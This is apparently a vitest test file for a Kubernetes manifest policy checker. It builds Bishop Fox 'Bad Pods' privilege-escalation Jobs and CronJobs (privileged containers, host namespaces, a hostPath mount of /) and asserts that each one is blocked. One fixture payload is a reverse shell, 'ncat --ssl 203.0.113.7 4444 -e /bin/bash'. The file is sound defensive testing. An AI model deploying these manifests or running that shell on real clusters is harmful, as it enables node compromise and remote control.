// The 32 Jobs and CronJobs that the Bad Pods of Bishop Fox come to, written anew: eight levels of what the node gives away, each as either
// kind, each waiting for an exec or calling home. https://bishopfox.com/blog/kubernetes-pod-privilege-escalation
import { describe, expect, it } from 'vitest';
import { defaultConfig } from '../../src/config/config.ts';
import { loadPack } from '../../src/judge/pack.ts';
import { judgeTexts } from './judge-fixture.ts';

const RULES = { config: defaultConfig(), pack: await loadPack() };
const UNLISTED = 'job-not-in-inventory';

interface Level {
  readonly pod: readonly string[];
  readonly privileged?: boolean;
  readonly mount?: boolean;
  /** What blocks it beside its not being listed. */
  readonly caught: readonly string[];
}

const NODE = ['hostNetwork: true', 'hostPID: true', 'hostIPC: true'];
const LEVELS: Readonly<Record<string, Level>> = {
  everything: {
    ...{ pod: NODE, privileged: true, mount: true },
    caught: ['host-namespace', 'host-path-sensitive', 'privileged-container'],
  },
  'privileged and hostPID': {
    ...{ pod: ['hostPID: true'], privileged: true },
    caught: ['host-namespace', 'privileged-container'],
  },
  privileged: { pod: [], privileged: true, caught: ['privileged-container'] },
  hostPath: { pod: [], mount: true, caught: ['host-path-sensitive'] },
  hostPID: { pod: ['hostPID: true'], caught: ['host-namespace'] },
  hostNetwork: { pod: ['hostNetwork: true'], caught: ['host-namespace'] },
  hostIPC: { pod: ['hostIPC: true'], caught: ['host-namespace'] },
  nothing: { pod: [], caught: [] },
};
const PAYLOADS = [
  { name: 'exec', image: 'ubuntu', args: 'while true; do sleep 30; done;', caught: [] },
  {
    ...{ name: 'reverse shell', image: 'raesene/ncat', args: 'ncat --ssl 203.0.113.7 4444 -e /bin/bash' },
    caught: ['image-known-bad', 'reverse-shell'],
  },
] as const;

function podOf(level: Level, payload: (typeof PAYLOADS)[number]): readonly string[] {
  return [
    'restartPolicy: OnFailure',
    ...level.pod,
    'containers:',
    '- name: main',
    `  image: ${payload.image}`,
    ...(level.privileged ? ['  securityContext: {privileged: true}'] : []),
    `  command: [/bin/sh, -c, -- , ${JSON.stringify(payload.args)}]`,
    ...(level.mount
      ? ['  volumeMounts: [{name: node, mountPath: /host}]', 'volumes: [{name: node, hostPath: {path: /}}]']
      : []),
  ];
}

function manifest(kind: string, pod: readonly string[]): string {
  const job = ['template:', '  metadata: {labels: {app: pentest}}', '  spec:', ...pod.map(line => `    ${line}`)];
  const spec =
    kind === 'Job' ? job : ["schedule: '*/1 * * * *'", 'jobTemplate:', '  spec:', ...job.map(line => `    ${line}`)];
  return [
    'apiVersion: batch/v1',
    `kind: ${kind}`,
    'metadata: {name: worker, namespace: default}',
    'spec:',
    ...spec.map(line => `  ${line}`),
  ].join('\n');
}

describe.each(Object.entries(LEVELS))('%s', (_, level) => {
  describe.each(['Job', 'CronJob'])('as a %s', kind => {
    it.each(PAYLOADS)('for $name', async payload => {
      const text = manifest(kind, podOf(level, payload));
      const findings = await judgeTexts({ text, base: null, inventory: '' }, RULES);
      const blocking = new Set(findings.filter(finding => finding.blocking).map(({ rule }) => rule));
      expect([...blocking].toSorted()).toEqual([UNLISTED, ...level.caught, ...payload.caught].toSorted());
    });
  });
});
